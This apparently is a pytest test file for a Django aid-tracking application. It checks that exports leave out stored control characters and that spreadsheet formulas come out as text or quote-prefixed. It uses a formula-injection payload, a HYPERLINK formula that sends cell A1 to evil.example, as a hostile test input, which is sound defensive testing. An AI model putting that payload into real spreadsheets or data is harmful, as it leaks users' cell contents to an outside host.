"""Exports are robust to what is stored and never carry a live formula (issue 13, items 3 and 4).

A control character stored before it was refused (here written straight into the database) must not make any
export answer 500: it is left out of the file. A title such as `=HYPERLINK(…)` is a text cell in every XLSX
(never a formula) and starts with a single quote in every CSV; Amity's own upload reads Amity's export back
unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from lxml import etree

from amity.aid.models import AidItem
from amity.aid.tests.factories import approve, donor, make_aid_item, make_transaction
from amity.conftest import client_for
from amity.interop.excel.check import check_workbook
from amity.interop.excel.export import export_workbook
from amity.interop.excel.write import write_workbook
from amity.organisations.models import Organisation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
ORGANISATION_WITH_CONTROL = "Plan\u0004 International"
TITLE_WITH_BELL = "Giếng\u0007 nước sạch"
KINDS = ("organisations", "registrations", "aid_items", "transactions")


@pytest.fixture
def damaged(users, hai_phong):
    """An organisation with U+0004 in its name and an aid item with U+0007 in its title, stored directly."""
    editor = users["editor"]
    plan = donor("Plan International")
    item = make_aid_item(editor, owning_province=hai_phong, participants=[(plan, "1")])
    make_transaction(editor, item, provider=plan)
    approve(users["approver"], item)
    Organisation.objects.filter(pk=plan.pk).update(name=ORGANISATION_WITH_CONTROL)
    AidItem.objects.filter(pk=item.pk).update(title_vi=TITLE_WITH_BELL, title_en="Clean\u001b water")
    return item


@pytest.fixture
def formula_item(users, hai_phong):
    editor = users["editor"]
    partner = donor(FORMULA)
    item = make_aid_item(editor, owning_province=hai_phong, title=FORMULA, participants=[(partner, "1")])
    make_transaction(editor, item, provider=partner, description="+1 tranche")
    approve(users["approver"], item)
    return item


def workbook_of(response: Any) -> openpyxl.Workbook:
    assert response.status_code == 200, response.content[:300]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def text_cells(workbook: openpyxl.Workbook) -> dict[str, str]:
    """Every cell's value → its data type, over all sheets."""
    return {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def csv_cells(response: Any) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    content = response.getvalue() if hasattr(response, "streaming_content") else response.content
    return [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in line]


# --- item 3: what is stored never breaks an export ------------------------------------------------------------


def test_excel_templates_and_exports_leave_control_characters_out(users, damaged):
    client = client_for(users["editor"])
    for kind in KINDS:
        for view in ("interop:excel_template", "interop:excel_export"):
            cells = text_cells(workbook_of(client.get(reverse(view, kwargs={"kind": kind}))))
            assert not any("\u0004" in value or "\u0007" in value for value in cells), (kind, view)
    exported = text_cells(workbook_of(client.get(reverse("interop:excel_export", kwargs={"kind": "aid_items"}))))
    assert "Giếng nước sạch" in exported


def test_iati_exports_leave_control_characters_out(users, damaged):
    client = client_for(users["editor"])
    for view in ("interop:iati_activities", "interop:iati_organisations"):
        response = client.get(reverse(view))
        assert response.status_code == 200
        root = etree.fromstring(response.getvalue())
        texts = [element.text or "" for element in root.iter()]
        assert not any("\u0004" in text or "\u0007" in text for text in texts), view
    activities = etree.fromstring(client.get(reverse("interop:iati_activities")).getvalue())
    assert "Giếng nước sạch" in [narrative.text for narrative in activities.iter("narrative")]
    api = client.get("/api/v1/aid-items/iati/")
    assert api.status_code == 200
    etree.fromstring(api.getvalue())


def test_csv_and_report_exports_leave_control_characters_out(users, damaged):
    client = client_for(users["central"])
    cells = csv_cells(client.get(reverse("aid:csv")))
    assert "Giếng nước sạch" in cells
    assert "Plan International" in cells
    for fmt in ("xlsx", "csv", "docx"):
        response = client.get("/reports/export/", {"format": fmt, "group_by": "donor", "statuses": "all"})
        assert response.status_code == 200, fmt
    report_cells = csv_cells(client.get("/reports/export/", {"format": "csv", "group_by": "donor", "statuses": "all"}))
    assert "Plan International" in report_cells
    assert not any("\u0004" in cell for cell in report_cells)


def test_a_docx_letterhead_from_the_address_bar_cannot_break_the_document(users, damaged):
    response = client_for(users["central"]).get(
        "/reports/export/", {"format": "docx", "doc_issuer": "Sở\u0001 Ngoại vụ", "doc_subject": "Báo cáo\u0002"}
    )
    assert response.status_code == 200


# --- item 4: a formula is text ----------------------------------------------------------------------------------


def test_every_xlsx_writes_a_formula_title_as_text(users, formula_item):
    client = client_for(users["central"])
    for kind in KINDS:
        for view in ("interop:excel_template", "interop:excel_export"):
            workbook = workbook_of(client.get(reverse(view, kwargs={"kind": kind})))
            types = text_cells(workbook)
            assert not any(data_type == "f" for data_type in types.values()), (kind, view)
            assert all(
                cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            )
    items = text_cells(workbook_of(client.get(reverse("interop:excel_export", kwargs={"kind": "aid_items"}))))
    assert items[FORMULA] == "s"
    report = workbook_of(client.get("/reports/export/", {"format": "xlsx", "group_by": "donor"}))
    assert text_cells(report)[FORMULA] == "s"


def test_every_csv_neutralises_a_leading_formula(users, formula_item):
    client = client_for(users["central"])
    aid = csv_cells(client.get(reverse("aid:csv")))
    assert "'" + FORMULA in aid
    assert FORMULA not in aid
    report = csv_cells(client.get("/reports/export/", {"format": "csv", "group_by": "donor"}))
    assert "'" + FORMULA in report
    assert FORMULA not in report


def test_amitys_upload_reads_amitys_export_back_unchanged(users, formula_item):
    editor = users["editor"]
    for kind in ("aid_items", "transactions"):
        buffer = io.BytesIO()
        export_workbook(kind, editor).save(buffer)
        data = buffer.getvalue()

        check = check_workbook(kind, data, editor)
        assert check.ok, check.problems
        assert (check.created_count, check.updated_count) == (0, 0), kind

        result = write_workbook(kind, data, editor)
        assert result.ok, result.problems
        assert (result.created_count, result.updated_count) == (0, 0), kind
    stored = AidItem.objects.get(pk=formula_item.pk)
    assert (stored.title_vi, stored.version) == (FORMULA, formula_item.version)


def test_organisations_round_trip_with_a_formula_name(users, formula_item):
    central = users["central"]
    buffer = io.BytesIO()
    export_workbook("organisations", central).save(buffer)

    result = write_workbook("organisations", buffer.getvalue(), central)

    assert result.ok, result.problems
    assert (result.created_count, result.updated_count) == (0, 0)
    assert Organisation.objects.filter(name=FORMULA).count() == 1
